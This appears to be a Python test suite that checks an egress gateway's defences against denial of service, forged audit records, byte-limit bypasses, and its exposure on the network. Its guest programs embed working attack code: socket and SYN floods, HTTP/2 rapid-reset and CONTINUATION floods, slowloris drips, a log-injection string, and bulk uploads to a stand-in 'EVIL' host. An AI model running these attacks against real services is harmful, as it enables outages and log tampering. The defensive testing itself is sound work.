"""Denial of service on the gateway, what it tells about itself, and what it counts (threats T94 to T100)."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import stat
import statistics
import textwrap
import time
from pathlib import Path

import msgspec
import pytest

from hutch.host.gateway import BACKLOG
from hutch.host.protocol import Tally
from tests.egress.packets import SYN, ipv4, tcp
from tests.egress.world import API, CANARY, DEADLINE_S, EVIL, SHARED, Guest, Origins, World, world

pytestmark = [pytest.mark.root, pytest.mark.usefixtures("canary_stays")]

OK = b"HTTP/1.1 200 OK\r\n"
RULE = {"transform": [{"headers": {"authorization": f"Bearer {CANARY}"}}]}
POLICY = {"allow": {"api.test": [RULE], "cdn.test": []}}
CONNECTIONS = 1024
FLOODED = {"allow": {"api.test": [RULE], "cdn.test": [RULE]}}
BUFFER = 64 * 1024
LINES = 128
CAP_IPC_LOCK = 14

ATTACKS = {
    "silent sockets": """
    import resource
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
    kept = []
    for _ in range(1500):
        try: kept.append(socket.create_connection((sys.argv[1], 443)))
        except ConnectionResetError: pass
    say("attacking")
    """,
    "silent name service": """
    import resource
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
    kept = []
    for _ in range(1500):
        try: kept.append(socket.create_connection((sys.argv[1], 53)))
        except ConnectionResetError: pass
    say("attacking")
    """,
    "never reads": """
    kept = []
    for _ in range(100):
        stream = tls(sys.argv[2], "cdn.test")
        stream.sendall(b"GET / HTTP/1.1\\r\\nhost: cdn.test\\r\\n\\r\\n")
        kept.append(stream)
    say("attacking")
    """,
    "slow bodies": """
    kept = []
    for _ in range(100):
        stream = tls(sys.argv[1], "api.test", alpn=["http/1.1"])
        stream.sendall(b"POST / HTTP/1.1\\r\\nhost: api.test\\r\\ncontent-length: 1000000\\r\\n\\r\\nx")
        kept.append(stream)
    say("attacking")
    """,
}


def descriptors(pid: int) -> int:
    return sum(1 for _ in Path(f"/proc/{pid}/fd").iterdir())


async def probe(guest: Guest, count: int) -> list[float]:
    """How long each of some requests took, each over its own connection."""
    program = """
    took = []
    for _ in range(int(sys.argv[2])):
        began = time.monotonic()
        answer = exchange(sys.argv[1], "api.test", b"GET /probe HTTP/1.1\\r\\nhost: api.test\\r\\nconnection: close\\r\\n\\r\\n")
        assert answer.startswith("HTTP/1.1 200 "), answer
        took.append(time.monotonic() - began)
    say(took)
    """
    found: list[float] = (await guest.python(program, API, str(count), timeout_s=30)).json()
    return found


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.defence("places")
async def test_t94_others_are_served_while_one_attacks(outside: World, attack: str) -> None:
    attacker, other = await outside.guest(POLICY), await outside.guest(POLICY)
    outside.origins.script("cdn.test", OK + b"content-length: 1000000000\r\n\r\n", repeat=bytes(100_000))
    before = descriptors(outside.gateway_pid)
    hold = "\n    sys.stdout.flush()\n    import signal\n    signal.pause()\n"
    running = asyncio.ensure_future(attacker.python(ATTACKS[attack].rstrip() + hold, API, SHARED))
    try:
        # Probes go on while the attack grows, and when it is there.
        took = await probe(other, 40)
        assert sorted(took)[-2] < 0.5, took
        assert max(took) < 2.0, took
        assert not running.done(), running.result()
        if "silent" in attack:
            await attacker.audited(reason="limit", decision="deny")
            assert descriptors(outside.gateway_pid) <= before + CONNECTIONS + 100
            assert not await other.audit(reason="limit")
    finally:
        attacker.stop()
        await asyncio.wait([running])


FLOODS = {
    # Taken back when they are being served, as the answer to a ping shows.
    "requests that are reset": """
    number = peer.ask(get(name="cdn.test"), end=False)
    peer.stream.sendall(frame(PING, 0, 0, bytes(8)))
    peer.stream.recv(65536)
    peer.stream.sendall(frame(RESET, 0, number, struct.pack("!I", 8)))
    """,
    # As one read has them: taken back before anybody saw them.
    "requests that are reset at once": """
    frames = b""
    for _ in range(200):
        number, peer.next = peer.next, peer.next + 2
        frames += frame(HEADERS, END_HEADERS, number, block(get(name="cdn.test"))) + frame(RESET, 0, number, struct.pack("!I", 8))
    peer.stream.sendall(frames)
    """,
    "a head that goes on and on": """
    if turn == 0:
        peer.stream.sendall(frame(HEADERS, 0, 1, block(get(name="cdn.test"))))
    peer.stream.sendall(frame(CONTINUATION, 0, 1, block([(b"x-%d" % turn, b"y" * 1000)])))
    """,
    "data of nothing": """
    if turn == 0:
        peer.ask(get(name="cdn.test"), end=False)
    peer.stream.sendall(frame(DATA, 0, 1) * 100)
    """,
}
"""What ends the connection that does it, again and again."""

UNREAD = "answers that are not read"
STRAINS = {
    "pings": """
    peer.stream.sendall(frame(PING, 0, 0, bytes(8)) * 1000)
    """,
    "settings": """
    peer.stream.sendall(settings(window=1 + turn % 2) * 1000)
    """,
    "windows of one byte": """
    if turn == 0:
        peer.stream.sendall(settings(window=1))
        for number in range(1, 201, 2):
            peer.ask(get(name="cdn.test"))
    peer.stream.sendall(b"".join(frame(WINDOW, 0, number, struct.pack("!I", 1)) for number in range(1, 201, 2)))
    """,
    UNREAD: """
    if turn == 0:
        for number in range(1, 201, 2):
            peer.ask(get(name="cdn.test"))
    threading.Event().wait()
    """,
}
"""What HTTP/2 allows: the connection may stay, and costs what a connection may cost."""


TURNS = 5000
MAX_RESETS = 100
STREAMS = 128
STREAM_KIB = 1024
"""What one of them may take at most, with what waits for its client and from its server."""


def flooding(act: str, *, turns: int, again: bool) -> str:
    """A program that does this on a connection to `cdn.test`, and on others when it ends; it says how often it did it on each."""
    return f"""
import threading
from tests.egress.http2 import *
ended = []
while {again} or not ended:
    try:
        peer = Peer(tls(sys.argv[1], "cdn.test", alpn=["h2"]))
        for turn in range({turns}):
{textwrap.indent(textwrap.dedent(act), " " * 12)}
        turn = "all"
    except OSError:
        pass
    ended.append(turn)
say(ended)
"""


@pytest.mark.parametrize("flood", FLOODS)
@pytest.mark.defence("resets")
async def test_t94_a_flood_of_http2_ends_its_connection(outside: World, flood: str) -> None:
    guest = await outside.guest(FLOODED)
    [turns] = (await guest.python(flooding(FLOODS[flood], turns=TURNS, again=False), SHARED)).json()
    assert turns != "all"
    assert (await guest.audited(kind="tls", decision="deny"))["reason"] in ("limit", "protocol_violation")
    # What one connection could ask for before it ended.
    assert len(outside.origins.seen().connections) <= MAX_RESETS + 1


async def fill(guest: Guest, other: Guest) -> None:
    """Until no more comes for who does not read it, while another one is served."""
    before = -1
    while (now := (await guest.counters()).down_bytes) > before:
        before = now
        await probe(other, 5)


@pytest.mark.parametrize("flood", [*FLOODS, *STRAINS])
@pytest.mark.defence("small-send-buffers")
async def test_t94_others_are_served_while_one_floods_with_http2(outside: World, flood: str) -> None:
    # The other one is answered by the gateway itself: origins are slower than it.
    attacker, other = (
        await outside.guest(FLOODED),
        await outside.guest({"allow": {"api.test": [{"response": {"statusCode": 200}}]}}),
    )
    outside.origins.script("cdn.test", OK + b"content-length: 1000000000\r\n\r\n", repeat=bytes(100_000))
    calm = statistics.median(await probe(other, 10))
    before = outside.gateway_memory_kib
    act = (FLOODS | STRAINS)[flood]
    running = asyncio.ensure_future(attacker.python(flooding(act, turns=1 << 40, again=True), SHARED, timeout_s=60))
    try:
        await attacker.audited(kind="tls", decision="allow")
        # Each of them is answered, which `probe` looks at.
        took = await probe(other, 20)
        if flood == UNREAD:
            await fill(attacker, other)
        assert outside.gateway_memory_kib - before < STREAMS * STREAM_KIB
        assert statistics.median(took) < 50 * calm
        assert not running.done(), running.result()
    finally:
        attacker.stop()
        await asyncio.wait([running])


@pytest.mark.defence("syn-cookies")
async def test_t94_half_open_connections_keep_nobody_out(outside: World) -> None:
    attacker, other = await outside.guest(POLICY), await outside.guest(POLICY)
    await attacker.silence()
    source, to = attacker.network.guest_address, attacker.gateway_hardware
    with attacker.wire() as wire:
        for port in range(1024, 1024 + 3 * BACKLOG):
            wire.send_ipv4(ipv4(source, API, 6, tcp((source, port), (API, 443), SYN)), to)
        assert len(await probe(other, 10)) == 10
        answered = {packet[22:24] for frame in wire.received() for packet in [frame[14:]] if packet[9] == 6}
    # They did arrive: more than the queue of the listener holds were answered.
    assert len(answered) > BACKLOG


@pytest.mark.defence("request-places")
async def test_t94_requests_beside_each_other_count_as_connections(origins: Origins, tmp_path: Path) -> None:
    directory = tmp_path / "few"
    directory.mkdir()
    async with world(directory, origins, max_flows=8) as outside:
        guest = await outside.guest(FLOODED)
        outside.origins.script("cdn.test", OK + b"content-length: 4\r\n\r\n", held=b"held")
        program = """
        from tests.egress.http2 import *
        peer = Peer(tls(sys.argv[1], "cdn.test", alpn=["h2"]))
        asked = [peer.ask(get(name="cdn.test")) for _ in range(20)]
        while sum(bool(peer.streams[number]["headers"]) for number in asked) < 20:
            peer.step(5)
        say([status(peer.streams[number] | {"goaway": None, "closed": False}) for number in asked])
        """
        # One on the connection's own place, seven on the others.
        assert (await guest.python(program, SHARED)).json() == ["200"] * 8 + ["429"] * 12
        assert len(outside.origins.seen().connections) == 8
        refused = await guest.audit(kind="http", decision="deny", reason="limit", status=429)
        assert sum(record.get("count", 1) for record in refused) == 12
        outside.origins.release()


@pytest.mark.defence("head-time")
async def test_t94_heads_that_never_end_do(outside: World) -> None:
    guest = await outside.guest(POLICY)
    program = """
    import threading
    def drip(stream, data, say_end):
        began = time.monotonic()
        stream.settimeout(0.001)
        try:
            for byte in data:
                stream.sendall(bytes([byte]))
                time.sleep(0.25)  # the attack's pace: a byte now and then
                try:
                    if not stream.recv(1000):
                        break
                except TimeoutError:
                    continue
        except OSError:
            pass
        ends[say_end] = time.monotonic() - began
    ends = {}
    hello = b"\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03" + b"x" * 400
    plain = socket.create_connection((sys.argv[1], 443))
    headed = tls(sys.argv[1], "api.test", alpn=["http/1.1"])
    threads = [
        threading.Thread(target=drip, args=(plain, hello, "hello")),
        threading.Thread(target=drip, args=(headed, b"GET / HTTP/1.1\\r\\nx: " + b"y" * 400, "head")),
    ]
    [thread.start() for thread in threads]
    [thread.join(16) for thread in threads]
    say(ends)
    sys.stdout.flush()
    os._exit(0)
    """
    ends = (await guest.python(program, API)).json()
    assert 4 < ends["hello"] < 7
    assert 8 < ends["head"] < 13
    assert await guest.audited(reason="client_timeout", kind="http", status=408)
    assert outside.origins.seen().is_silent


@pytest.mark.defence("head-size")
async def test_t94_large_heads_are_refused(outside: World) -> None:
    guest = await outside.guest(POLICY)
    for extra in ("x: " + "y" * 100_000, "\r\n".join(f"x{number}: y" for number in range(1000)), "a" * 70_000):
        program = """
        head = "GET / HTTP/1.1\\r\\nhost: api.test\\r\\n" + sys.stdin.read() + "\\r\\n\\r\\n"
        try:
            say(exchange(sys.argv[1], "api.test", head.encode(), 3))
        except OSError:
            # Refused while it was still being sent.
            say("")
        """
        ran = await guest.python(program, API, stdin=extra.encode())
        assert ran.json().startswith("HTTP/1.1 400 ") or ran.json() == ""
    assert not outside.origins.seen().data
    assert (await guest.audited(kind="http", decision="deny"))["reason"] in ("protocol_violation", "limit")


@pytest.mark.defence("idle-servers")
async def test_t94_idle_connections_to_servers_are_closed(outside: World) -> None:
    # Under a wildcard there is no end of names, and a connection that waits for each of them.
    guest = await outside.guest({"allow": {"*.wild.test": [{"transform": [{"headers": {"x-a": "b"}}]}]}})
    names = ["a.wild.test", "b.a.wild.test"]
    for name in names:
        assert (await guest.curl(f"https://{name}/")).out == "ok\n200"
    assert sum(not connection["ended"] for connection in outside.origins.seen().connections) == 2
    await guest.policy({"allow": {"*.wild.test": [{"transform": [{"headers": {"x-a": "c"}}]}]}})
    await outside.origins.wait(lambda seen: all(c["ended"] for c in seen.connections), "connections wait for nobody")


HOSTILE = '/x"}\x1b[31m\n{"decision":"allow","kind":"forged"}?token=' + CANARY + "&plain"


@pytest.mark.defence("escaped-records")
async def test_t95_records_cannot_be_forged(outside: World) -> None:
    guest = await outside.guest({"allow": {"api.test": [{"response": {"statusCode": 403}}]}})
    program = """
    import base64
    answers = []
    for target in json.loads(sys.stdin.read()):
        agent = b"\\x1b[31m" if "\\n" in target else b"fine"
        request = b"GET " + target.encode("latin-1") + b" HTTP/1.1\\r\\nhost: api.test\\r\\nuser-agent: " + agent
        request += b"\\r\\nconnection: close\\r\\n\\r\\n"
        answers.append(exchange(sys.argv[1], "api.test", request)[:12])
    say(answers)
    """
    targets = [HOSTILE, '/x"}%0a{"decision":"allow","kind":"forged"}?token=' + CANARY + "&plain", "/" + "y" * 10_000, "/\xff\xfe"]
    ran = await guest.python(program, API, stdin=json.dumps(targets).encode())
    assert set(ran.json()) <= {"HTTP/1.1 400", "HTTP/1.1 403"}
    labels = ['n"}\n{"kind":"forged"}', "\x1b[31m", "\u202e\u00ff"]
    await guest.python(
        """
        for label in json.loads(sys.stdin.read()):
            label = label.encode()
            query = struct.pack("!HHHHHH", 1, 256, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\\x04test\\0\\0\\x01\\0\\x01"
            ask(sys.argv[1], query, 1)
        """,
        guest.network.host_address,
        stdin=json.dumps(labels).encode(),
    )
    clipped = await guest.audited(kind="http", clipped=True)
    assert len(clipped["path"]) == 1024
    raw = (outside.directory / "audit" / f"{guest.sandbox_id}.jsonl").read_bytes()
    assert all(32 <= byte < 127 for line in raw.splitlines() for byte in line)
    records = [json.loads(line) for line in raw.splitlines()]
    assert not [record for record in records if record["kind"] == "forged"]
    paths = [record["path"] for record in records if "path" in record]
    assert '/x"}%0a{"decision":"allow","kind":"forged"}?token&plain' in paths


@pytest.mark.defence("counted-records")
async def test_t95_a_flood_is_counted_exactly(outside: World) -> None:
    guest = await outside.guest({"allow": {"api.test": [{"response": {"statusCode": 403}}]}})
    program = """
    with tls(sys.argv[1], "api.test", alpn=["http/1.1"]) as stream:
        for number in range(2000):
            stream.sendall(b"GET /%d HTTP/1.1\\r\\nhost: api.test\\r\\n\\r\\n" % number)
            stream.recv(10000)
    """
    assert (await guest.python(program, API)).code == 0
    end = time.monotonic() + 10
    while True:
        records = await guest.audit(kind="http", decision="respond")
        total = sum(record.get("count", 1) for record in records)
        if total == 2000:
            break
        assert time.monotonic() < end, total
        await asyncio.sleep(0.05)
    assert len(records) < 1900


@pytest.mark.defence("confined")
@pytest.mark.defence("no-swap")
async def test_t96_the_process_gives_nothing_away(outside: World) -> None:
    policy = {
        "allow": {
            "api.test": [{"transform": [{"headers": {"authorization": {"credential": "the-key-name", "format": "Bearer {}"}}}]}]
        }
    }
    guest = await outside.guest(policy, credentials={"the-key-name": CANARY})
    assert (await guest.curl(f"https://api.test/?token={CANARY[::-1]}")).out == "ok\n200"
    pid = outside.gateway_pid
    limits = Path(f"/proc/{pid}/limits").read_text().splitlines()
    assert next(line for line in limits if line.startswith("Max core file size")).split()[4:6] == ["0", "0"]
    status = dict(line.split(":\t", 1) for line in Path(f"/proc/{pid}/status").read_text().splitlines() if ":\t" in line)
    assert status["Uid"].split()[0] == str(outside.networks.gateway_user)
    assert status["NoNewPrivs"] == "1"
    # Nothing is swapped: all that there is and will be is locked once it is used.
    assert int(status["VmLck"].split()[0]) > 0
    # What a process that is not dumpable has in /proc is root's, whoever it runs as: nobody else traces or reads it.
    assert Path(f"/proc/{pid}/environ").stat().st_uid == 0
    assert Path(f"/proc/{pid}/mem").stat().st_uid == 0
    assert (outside.directory / "gateway" / "log").read_bytes() == b""
    assert not list((outside.directory / "gateway" / "root").iterdir())
    await guest.policy(policy)
    missing = await guest.curl("https://api.test/")
    assert missing.out.endswith("503")
    assert "the-key-name" not in missing.out
    outside.origins.answer("cdn.test", "198.51.100.99")
    await guest.policy({"allow": {"cdn.test": policy["allow"]["api.test"]}}, credentials={"the-key-name": CANARY})
    unreachable = await guest.curl("https://cdn.test/")
    assert unreachable.out.endswith(("502", "504"))
    assert "198.51.100" not in unreachable.out
    records = [json.dumps(record) for record in await guest.audit()]
    assert not [record for record in records if CANARY[::-1] in record]


@pytest.mark.defence("system-calls")
async def test_every_thread_of_the_gateway_has_a_filter_and_one_capability(outside: World) -> None:
    threads = [path.read_text() for path in Path(f"/proc/{outside.gateway_pid}/task").glob("*/status")]
    assert len(threads) > 1
    for thread in threads:
        status = dict(line.split(":\t", 1) for line in thread.splitlines() if ":\t" in line)
        assert (status["Seccomp"], status["Seccomp_filters"], status["NoNewPrivs"]) == ("2", "2", "1")
        # It locks memory whatever the limit, and lets it do nothing else.
        held = {int(status[name], 16) for name in ("CapPrm", "CapEff")}
        assert held == {1 << CAP_IPC_LOCK}
        assert int(status["CapInh"], 16) == int(status["CapAmb"], 16) == 0


@pytest.mark.defence("own-cache")
async def test_t97_guests_share_no_cache(outside: World) -> None:
    guests = [await outside.guest({"allow": ["api.test"]}) for _ in range(2)]
    for guest in guests:
        for _ in range(2):
            ran = await guest.python("say(ask(sys.argv[1], question('api.test')))", guest.network.host_address)
            assert ran.json()["code"] == 0
    assert outside.origins.seen().questions.count("api.test") == 2


@pytest.mark.defence("sandbox-limits")
async def test_t98_a_policy_s_limit_cuts_an_upload(outside: World) -> None:
    limit = 1_000_000
    guest = await outside.guest({"subnets": {"allow": [f"{EVIL}/32"]}, "limits": {"upBytes": limit}})
    outside.origins.script(f"{EVIL}:8080", echo=True)
    program = """
    stream = socket.create_connection((sys.argv[1], 8080))
    sent = 0
    try:
        while sent < 10_000_000:
            # Nothing is on its way when it is cut: a reset takes that with it.
            stream.sendall(b"x" * 10_000)
            sent += 10_000
            got = 0
            while got < 10_000:
                got += len(stream.recv(100_000)) or 10_000_000
        say("all")
    except OSError as error:
        say(type(error).__name__)
    """
    assert (await guest.python(program, EVIL)).json() in ("ConnectionResetError", "BrokenPipeError")
    seen = await outside.origins.wait(lambda seen: bool(seen.connections[0]["ended"]), "not cut")
    assert limit - BUFFER <= len(seen.data) <= limit
    counters = await guest.counters()
    assert counters.up_bytes == len(seen.data)
    record = await guest.audited(kind="limit", reason="byte_limit")
    assert (record["decision"], record["up"]) == ("deny", len(seen.data))
    # What is used up stays used up, also for another connection and after an update that does not raise it.
    await guest.policy({"subnets": {"allow": [f"{EVIL}/32"]}, "limits": {"upBytes": limit}})
    await guest.python(program, EVIL)
    assert len(outside.origins.seen().data) <= limit


@pytest.mark.defence("sandbox-limits")
async def test_t98_a_limit_cuts_a_download(outside: World) -> None:
    limit = 1_000_000
    guest = await outside.guest({"allow": ["cdn.test"], "limits": {"downBytes": limit}})
    outside.origins.script("cdn.test", OK + b"content-length: 100000000\r\n\r\n", repeat=bytes(100_000))
    ran = await guest.curl("-o", "/dev/null", "-w", "%{size_download}", "https://cdn.test/")
    assert ran.code != 0
    # TLS's own bytes are counted where it is not terminated.
    assert 0 < int(ran.out.split()[-1]) <= limit
    assert limit - BUFFER <= (await guest.counters()).down_bytes <= limit
    assert await guest.audited(kind="limit", reason="byte_limit")


@pytest.mark.parametrize("way", ["up", "down"])
@pytest.mark.defence("rule-limits")
async def test_t98_a_rule_s_limit_cuts_in_the_middle(outside: World, way: str) -> None:
    limit = 500_000
    rule = {**RULE, "limits": {f"{way}Bytes": limit}, "match": {"path": {"startsWith": "/limited/"}}}
    guest = await outside.guest({"allow": {"api.test": [rule]}})
    # An origin that answers only when it has everything, which it never gets.
    outside.origins.script("api.test", OK + b"content-length: 2000000\r\n\r\n" + bytes(2_000_000) if way == "down" else b"")
    large = guest.directory / "large"
    large.write_bytes(b"x" * 2_000_000)
    arguments = ["-o", "/dev/null"] if way == "down" else ["-T", str(large), "-H", "expect:"]
    ran = await guest.curl("--http1.1", *arguments, "https://api.test/limited/x")
    assert ran.code != 0 or ran.out.splitlines()[-1] == "403", ran
    record = await guest.audited(kind="http", path="/limited/x", reason="byte_limit")
    assert record["decision"] == "deny"
    assert limit - BUFFER - 1000 <= record[way] <= limit
    assert await guest.audited(kind="limit", reason="byte_limit")
    if way == "up":
        assert outside.origins.seen().data.count(b"x") <= limit
    # Another rule's limit is another one's.
    outside.origins.script("api.test", OK + b"content-length: 0\r\n\r\n")
    assert (await guest.curl("-o", "/dev/null", "https://api.test/free")).out.endswith("200")


@pytest.mark.defence("head-bytes")
async def test_t98_heads_are_bytes_too(outside: World) -> None:
    limit = 50_000
    guest = await outside.guest({"allow": {"api.test": [{**RULE, "limits": {"upBytes": limit}}]}})
    program = """
    codes = []
    for number in range(20):
        request = b"GET /%d HTTP/1.1\\r\\nhost: api.test\\r\\nconnection: close\\r\\nx-data: " % number + b"z" * 5000
        request += b"\\r\\n\\r\\n"
        codes.append(exchange(sys.argv[1], "api.test", request)[9:12])
    say(codes)
    """
    codes = (await guest.python(program, API)).json()
    assert codes == ["200"] * 9 + ["403"] * 11
    assert outside.origins.seen().data.count(b"z") <= limit
    assert (await guest.audited(kind="http", reason="byte_limit", decision="deny"))["status"] == 403


@pytest.mark.defence("rule-limits")
async def test_t98_websockets_are_under_the_rule_s_limit(outside: World) -> None:
    limit = 100_000
    guest = await outside.guest({"allow": {"api.test": [{**RULE, "limits": {"upBytes": limit}}]}})
    outside.origins.script(
        "api.test",
        b"HTTP/1.1 101 x\r\nconnection: Upgrade\r\nupgrade: websocket\r\n"
        b"sec-websocket-accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n",
    )
    program = """
    stream = tls(sys.argv[1], "api.test", alpn=["http/1.1"])
    stream.sendall(b"GET / HTTP/1.1\\r\\nhost: api.test\\r\\nconnection: Upgrade\\r\\nupgrade: websocket\\r\\n"
        b"sec-websocket-version: 13\\r\\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n")
    assert b"101" in stream.recv(100000)
    try:
        for _ in range(1000):
            stream.sendall(b"w" * 1000)
        say("all")
    except OSError as error:
        say(type(error).__name__)
    """
    assert (await guest.python(program, API)).json() != "all"
    seen = await outside.origins.wait(lambda seen: bool(seen.connections[0]["ended"]), "not cut")
    sent = seen.data.count(b"w" * 1000) * 1000
    assert limit - BUFFER <= sent <= limit
    record = await guest.audited(kind="http", status=101)
    assert (record["decision"], record["reason"]) == ("deny", "byte_limit")
    assert sent <= record["up"] <= limit


@pytest.mark.defence("body-size")
@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
async def test_t98_a_request_s_body_is_bounded_whether_its_length_is_said_or_not(
    origins: Origins, tmp_path: Path, version: str
) -> None:
    most = 100_000
    directory = tmp_path / "small"
    directory.mkdir()
    async with world(directory, origins, max_upload_bytes=most) as outside:
        guest = await outside.guest({"allow": {"api.test": [RULE]}})
        outside.origins.script("api.test", OK + b"content-length: 0\r\n\r\n", whole=True)
        body = guest.directory / "body"
        for unsaid in (False, True):
            # From a pipe, whose length nobody knows.
            source = f"cat {body} | curl -T -" if unsaid else f"curl -T {body}"
            upload = f"{source} -sS {version} -H expect: -o /dev/null -w '%{{http_code}}' https://api.test/{unsaid}"
            body.write_bytes(b"x" * most)
            assert (await guest.run("sh", "-c", upload)).out == "200"
            passed = outside.origins.seen().data.count(b"x")
            body.write_bytes(b"x" * (most + 1))
            assert (await guest.run("sh", "-c", upload)).out == "413"
            record = await guest.audited(kind="http", path=f"/{unsaid}", reason="limit")
            assert (record["decision"], record["status"]) == ("deny", 413)
            # What is too long from the start is not begun.
            assert 0 < record["up"] <= most if unsaid else record["up"] == 0
            assert outside.origins.seen().data.count(b"x") - passed <= most


async def killed(outside: World) -> None:
    """Kill the gateway; when this returns another one serves everybody."""
    restarts = outside.gateway.restarts
    os.kill(outside.gateway_pid, signal.SIGKILL)
    while outside.gateway.restarts == restarts or not outside.gateway._ready.is_set():
        await asyncio.sleep(0.01)


@pytest.mark.defence("counters-again")
@pytest.mark.parametrize("host", ["runs on", "starts again"])
async def test_t98_what_was_counted_counts_on_in_the_next_gateway(outside: World, host: str) -> None:
    limit = 100_000
    rule = {**RULE, "limits": {"upBytes": limit}}
    guest = await outside.guest({"allow": {"api.test": [rule]}, "subnets": {"allow": [f"{EVIL}/32"]}})
    outside.origins.script("api.test", OK + b"content-length: 0\r\n\r\n", whole=True)
    outside.origins.script(f"{EVIL}:8080", echo=True)
    body = guest.directory / "body"
    body.write_bytes(b"x" * 60_000)
    upload = ("--http1.1", "-H", "expect:", "-T", str(body), "https://api.test/")
    assert (await guest.curl(*upload)).out.endswith("200")
    assert (await guest.python("say(outcome(sys.argv[1], 8080, b'y' * 1000, 5.0)['end'])", EVIL)).json() == "data"
    before = await guest.counters()
    if host == "starts again":
        await outside.start_host_again()
        outside.gateway.resume_counters(guest.network, before)
    # Twice: what one gateway is told counts once in the next one.
    for _ in range(2):
        await killed(outside)
        again = await guest.counters()
        assert again.cpu_us >= before.cpu_us > 0
        assert msgspec.structs.replace(again, cpu_us=before.cpu_us) == before
    assert before.tallies[EVIL].up_bytes == 1000
    # The rest of the rule's limit, and not all of it again.
    assert not (await guest.curl(*upload)).out.endswith("200")
    after = await guest.counters()
    assert before.tallies["api.test"].up_bytes == 60_000
    assert 60_000 <= after.tallies["api.test"].up_bytes <= limit
    assert outside.origins.seen().data.count(b"x") <= limit


@pytest.mark.defence("bounded-lines")
async def test_t98_names_without_end_are_so_many_lines_and_no_more(outside: World) -> None:
    guest = await outside.guest({"allow": {"api.test": [RULE]}})
    outside.origins.script("api.test", OK + b"content-length: 0\r\n\r\n")
    sent = 1500
    program = """
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        for number in range(int(sys.argv[1])):
            stream.sendto(b"x", ("203.0.%d.%d" % divmod(number, 250), 9))
    """
    await guest.python(program, str(sent))
    assert (await guest.curl("https://api.test/")).out.endswith("200")
    async with asyncio.timeout(DEADLINE_S):
        while sum(tally.denied for tally in (await guest.counters()).tallies.values()) < sent:
            await asyncio.sleep(0.02)
    counted = await guest.counters()
    # The name that carried bytes, as many refused ones as have a place, the rest of them, and the rule.
    assert len(counted.tallies) == LINES + 2
    assert counted.tallies["api.test"].requests == 1
    assert counted.tallies["*"].denied == sent - (LINES - 1)
    assert len([key for key in counted.tallies if key.startswith("rule:")]) == 1


async def test_t98_bytes_are_counted_by_name_while_they_pass(outside: World) -> None:
    guest = await outside.guest({"allow": {"api.test": [RULE], "cdn.test": []}})
    half = bytes(50_000)
    outside.origins.script("api.test", OK + b"content-length: 100000\r\n\r\n" + half, held=half)
    program = """
    stream = tls(sys.argv[1], "api.test", alpn=["http/1.1"])
    stream.sendall(b"GET / HTTP/1.1\\r\\nhost: api.test\\r\\n\\r\\n")
    got = b""
    while len(got) < 50_000:
        got += stream.recv(100_000)
    say(len(got))
    sys.stdout.flush()
    import signal
    signal.pause()
    """
    running = asyncio.ensure_future(guest.python(program, API))
    try:
        async with asyncio.timeout(DEADLINE_S):
            while (counted := await guest.counters()).tallies.get("api.test", Tally()).down_bytes < 50_000:
                await asyncio.sleep(0.02)
        assert not running.done()
        (rule,) = (tally for key, tally in counted.tallies.items() if key.startswith("rule:"))
        assert rule.down_bytes == 50_000
    finally:
        guest.stop()
        await asyncio.wait([running])


async def test_t98_counters_are_what_the_origin_got(outside: World) -> None:
    guest = await outside.guest({"subnets": {"allow": [f"{EVIL}/32"]}})
    outside.origins.script(f"{EVIL}:8080", echo=True)
    program = """
    stream = socket.create_connection((sys.argv[1], 8080))
    for size in (1, 1000, 70_000):
        stream.sendall(b"x" * size)
        got = 0
        while got < size:
            got += len(stream.recv(100_000))
    say("sent")
    sys.stdout.flush()
    sys.stdin.read()
    """
    assert (await guest.python(program, EVIL, stdin=b"")).json() == "sent"
    total = len(outside.origins.seen().data)
    counters = await guest.counters()
    assert (counters.up_bytes, counters.down_bytes) == (total, total) == (71_001, 71_001)
    # What is refused is no payload.
    await guest.curl("--resolve", f"evil.test:443:{SHARED}", "https://evil.test/")
    assert (await guest.counters()).up_bytes == total


@pytest.mark.defence("hard-deny", "kernel-gateway")
async def test_t99_nothing_of_the_gateway_is_on_the_network(outside: World) -> None:
    guest = await outside.guest({"allow": ["api.test"], "subnets": {"allow": ["0.0.0.0/0"]}})
    listening = Path("/proc/net/tcp").read_text().splitlines()[1:]
    ports = {int(line.split()[1].partition(":")[2], 16) for line in listening if line.split()[3] == "0A"}
    assert ports
    program = """
    ends = {}
    for address in sys.argv[1].split(","):
        for port in map(int, sys.argv[2].split(",")):
            ends["%s:%d" % (address, port)] = outcome(address, port, b"GET / HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n", 2)["end"]
    say(ends)
    """
    own = [guest.network.host_address, "198.51.100.1", "127.0.0.1"]
    wanted = [*sorted(ports)[:20], 22, 80, 443, 6060, 9090]
    ends = (await guest.python(program, ",".join(own), ",".join(map(str, wanted)))).json()
    # Its loopback is the guest's own, where nobody listens.
    assert set(ends.values()) <= {"ECONNRESET", "ECONNREFUSED"}, ends
    assert await guest.audited(decision="deny", reason="self")
    control = outside.directory / "gateway" / "control.sock"
    assert stat.S_IMODE(control.stat().st_mode) == 0o600
    assert stat.S_IMODE(control.parent.stat().st_mode) == 0o700
    assert control.stat().st_uid == 0


@pytest.mark.defence("interception")
async def test_t100_a_client_that_does_not_trust_us_only_breaks_itself(outside: World) -> None:
    guest = await outside.guest({"allow": {"api.test": [RULE]}})
    for arguments in (["--cacert", str(outside.origins.ca)], ["--cacert", "/dev/null"]):
        ran = await guest.curl(*arguments, "https://api.test/")
        assert ran.code in (35, 60, 77), ran
    await guest.audited(kind="tls", name="api.test", decision="deny", reason="protocol_violation")
    assert outside.origins.seen().is_silent
    assert not await guest.audit(mode="splice")
    # One that verifies nobody is intercepted like everybody.
    assert (await guest.curl("-k", "https://api.test/")).out == "ok\n200"
